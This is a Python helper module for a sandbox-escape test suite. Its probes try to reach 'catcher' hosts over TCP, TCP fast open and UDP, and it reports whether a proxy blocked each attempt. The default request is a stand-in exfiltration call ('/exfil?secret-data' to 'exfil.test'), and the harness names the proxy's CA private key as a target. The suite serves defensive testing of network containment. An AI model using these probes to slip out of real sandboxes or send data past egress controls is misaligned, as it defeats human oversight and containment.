"""Shared by the escape attempts (tests/jail/escape/*.py).

An attempt runs one or more probes.  Each probe runs in a forked child (so
a seccomp kill, a hang or a changed namespace ends only that probe) and
returns (escaped, detail).  The attempt prints one line per probe,
"probe NAME: escaped|blocked: DETAIL", then "RESULT escaped: ..." if any
probe got out or "RESULT blocked: ..." otherwise, and exits 1 or 0.

The harness passes what the attempts aim at in the environment:
  BT_FOREIGN4, BT_FOREIGN6   the catcher addresses (203.0.113.7, 2001:db8::7)
  BT_PROXY_PORT              boundary's proxy port
  BT_PROXY_PID               boundary's pid (as the harness sees it)
  BT_CA_KEY                  the path of the proxy's CA private key
  BT_ABSTRACT                the name of an abstract Unix socket outside
  BT_ORIGIN_HTTP_PORT        the plain origin on 127.0.0.1 (outer netns)
Catchers answer with the marker CAUGHT; boundary's refusals are 403s with
an X-Boundary-Reason header.
"""
import errno
import json
import os
import select
import signal
import socket
import sys
import time

MARK = b"CAUGHT"
FOREIGN4 = os.environ.get("BT_FOREIGN4", "203.0.113.7")
FOREIGN6 = os.environ.get("BT_FOREIGN6", "2001:db8::7")


def env_int(name, default=0):
    try:
        return int(os.environ.get(name, ""))
    except ValueError:
        return default


def errname(e):
    if isinstance(e, socket.timeout):
        return "timeout"
    if getattr(e, "errno", None):
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__ + (": " + str(e) if str(e) else "")


def family(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def hostport(addr, port):
    return ("[%s]:%d" if ":" in addr else "%s:%d") % (addr, port)


def http_request(host, path="/exfil?secret-data"):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: escape\r\n"
            "Connection: close\r\n\r\n" % (path, host)).encode()


def complete(data):
    """True once data holds a whole HTTP response with a Content-Length."""
    head, sep, body = data.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            try:
                return len(body) >= int(value.strip())
            except ValueError:
                return False
    return False


def read_response(s, timeout=3.0):
    """Reads one HTTP response: up to its Content-Length, the peer's close
    or the timeout, whichever comes first."""
    data = b""
    end = time.monotonic() + timeout
    while len(data) < 65536 and not complete(data):
        left = end - time.monotonic()
        if left <= 0:
            break
        r, _, _ = select.select([s], [], [], left)
        if not r:
            break
        try:
            chunk = s.recv(65536)
        except OSError:
            break
        if not chunk:
            break
        data += chunk
    return data


def classify(resp):
    """(escaped, detail) for what a TCP attempt read back."""
    if MARK in resp:
        return True, "the catcher answered"
    if not resp:
        return False, "no data"
    head = resp.split(b"\r\n\r\n", 1)[0].decode("latin-1")
    first = head.split("\r\n", 1)[0]
    low = head.lower()
    if "\r\nserver: origin/" in low:
        return True, "the origin answered directly: " + first
    if first.startswith("HTTP/1.1 403") and "x-boundary-reason:" in low:
        reason = low.split("x-boundary-reason:", 1)[1].split("\r\n")[0]
        return False, "proxy-403 reason=" + reason.strip()
    return False, "other answer: " + first[:80]


def tcp_http(addr, port, host="exfil.test", timeout=1.5, fastopen=False,
             proto=0):
    try:
        s = socket.socket(family(addr), socket.SOCK_STREAM, proto)
    except OSError as e:
        return False, "socket: " + errname(e)
    s.settimeout(timeout)
    req = http_request(host)
    try:
        if fastopen:
            try:
                s.sendto(req, socket.MSG_FASTOPEN, (addr, port))
            except BlockingIOError:
                # No cookie yet: the SYN went out without the data; once
                # the handshake completes the data goes the usual way.
                _, w, _ = select.select([], [s], [], timeout)
                if not w:
                    raise socket.timeout()
                e = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if e:
                    raise OSError(e, os.strerror(e))
                s.sendall(req)
        else:
            s.connect((addr, port))
            s.sendall(req)
    except OSError as e:
        s.close()
        return False, ("sendto(MSG_FASTOPEN): " if fastopen
                       else "connect: ") + errname(e)
    resp = read_response(s, timeout=timeout)
    s.close()
    return classify(resp)


def udp_send(addr, port, payload, timeout=1.0):
    try:
        s = socket.socket(family(addr), socket.SOCK_DGRAM)
    except OSError as e:
        return False, "socket: " + errname(e)
    try:
        s.sendto(payload, (addr, port))
    except OSError as e:
        s.close()
        return False, "sendto: " + errname(e)
    r, _, _ = select.select([s], [], [], timeout)
    data = b""
    if r:
        try:
            data = s.recv(65536)
        except OSError as e:
            s.close()
            return False, "sent; recv: " + errname(e)
    s.close()
    if MARK in data:
        return True, "the catcher answered"
    if data:
        return False, "sent; a reply without the marker (%d bytes)" % len(data)
    return False, "sent; no reply"


def _child(fn, w):
    try:
        res = fn()
        out = json.dumps([bool(res[0]), str(res[1])])
    except Exception as e:  # a probe that raises did not get out
        out = json.dumps([False, "exception: " + errname(e)])
    os.write(w, out.encode())
    os._exit(0)


def probe(name, fn, timeout=8.0):
    """Runs fn() in a child; returns and prints (escaped, detail)."""
    r, w = os.pipe()
    sys.stdout.flush()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        _child(fn, w)
    os.close(w)
    data = b""
    end = time.monotonic() + timeout
    while True:
        left = end - time.monotonic()
        if left <= 0:
            break
        rr, _, _ = select.select([r], [], [], left)
        if not rr:
            break
        chunk = os.read(r, 65536)
        if not chunk:
            break
        data += chunk
    os.close(r)
    timed_out = False
    try:
        wpid, st = os.waitpid(pid, os.WNOHANG)
        if wpid == 0:
            time.sleep(0.2)
            wpid, st = os.waitpid(pid, os.WNOHANG)
        if wpid == 0:
            timed_out = True
            os.kill(pid, signal.SIGKILL)
            _, st = os.waitpid(pid, 0)
    except ChildProcessError:
        st = 0
    if data:
        escaped, detail = json.loads(data.decode())
    elif timed_out:
        escaped, detail = False, "timed out after %.0f s" % timeout
    elif os.WIFSIGNALED(st):
        escaped, detail = False, "killed by signal %d" % os.WTERMSIG(st)
    else:
        escaped, detail = False, "no report (exit %d)" % os.WEXITSTATUS(st)
    print("probe %s: %s: %s" % (name, "escaped" if escaped else "blocked",
                                detail), flush=True)
    return escaped, detail


def finish(results):
    """results: [(name, escaped, detail)]; prints RESULT and exits."""
    got = [n for n, e, _ in results if e]
    if got:
        print("RESULT escaped: " + ", ".join(got), flush=True)
        sys.exit(1)
    print("RESULT blocked: " + "; ".join(
        "%s: %s" % (n, d) for n, _, d in results), flush=True)
    sys.exit(0)


def run(probes):
    """probes: [(name, fn)] -> runs each, prints, exits."""
    results = []
    for name, fn in probes:
        e, d = probe(name, fn)
        results.append((name, e, d))
    finish(results)
